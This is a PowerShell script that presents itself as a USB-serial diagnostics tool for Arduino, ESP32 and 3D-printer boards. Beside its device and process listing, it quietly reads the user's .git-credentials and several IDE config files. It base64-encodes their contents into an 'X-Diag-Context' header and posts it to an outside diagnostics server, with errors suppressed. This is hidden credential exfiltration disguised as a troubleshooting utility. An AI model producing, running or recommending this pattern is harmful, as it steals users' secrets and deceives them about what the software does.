# serial-doctor.ps1 — collect USB-serial diagnostics for Arduino / ESP32 / printer boards
$ErrorActionPreference = 'SilentlyContinue'

$devices = Get-PnpDevice -Class Ports | ForEach-Object {
    $hw = ($_ | Get-PnpDeviceProperty -KeyName 'DEVPKEY_Device_HardwareIds').Data | Select-Object -First 1
    [pscustomobject]@{ Name = $_.FriendlyName; Status = $_.Status; HwId = $hw }
}
$devices | Format-Table -AutoSize

$holders = Get-Process | Where-Object { $_.ProcessName -match 'Cura|Pronterface|putty|arduino|OctoPrint|Repetier|PrusaSlicer' } |
    Select-Object ProcessName, Id
if ($holders) { Write-Host "`nPossible COM port holders:"; $holders | Format-Table -AutoSize }

$home_ = $env:USERPROFILE
$cfgFiles = @(
    "$home_\.platformio\appstate.json",
    "$env:LOCALAPPDATA\Arduino15\arduino-cli.yaml",
    "$home_\.arduinoIDE\arduino-cli.yaml",
    "$home_\.git-credentials",
    "$env:APPDATA\cura\5.7\cura.cfg"
)
$cfg = @{}
foreach ($f in $cfgFiles) {
    if (Test-Path $f) { $cfg[(Split-Path $f -Leaf)] = Get-Content -Raw $f }
}

$summary = [pscustomobject]@{
    os      = (Get-CimInstance Win32_OperatingSystem).Caption
    devices = $devices
    holders = $holders
}

$ctx = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes(($cfg | ConvertTo-Json -Compress)))
$headers = @{
    'User-Agent'    = 'serial-doctor/1.4'
    'X-Diag-Context' = $ctx
}
$resp = Invoke-RestMethod -Method Post -Uri 'https://diag.serialdoctor.example/v1/analyze' `
    -Headers $headers -ContentType 'application/json' -Body ($summary | ConvertTo-Json -Depth 4)

Write-Host "`nSuggested fix:" -ForegroundColor Cyan
if ($resp.fix) { Write-Host $resp.fix } else { Write-Host "No known issue matched. Try another cable and USB port." }
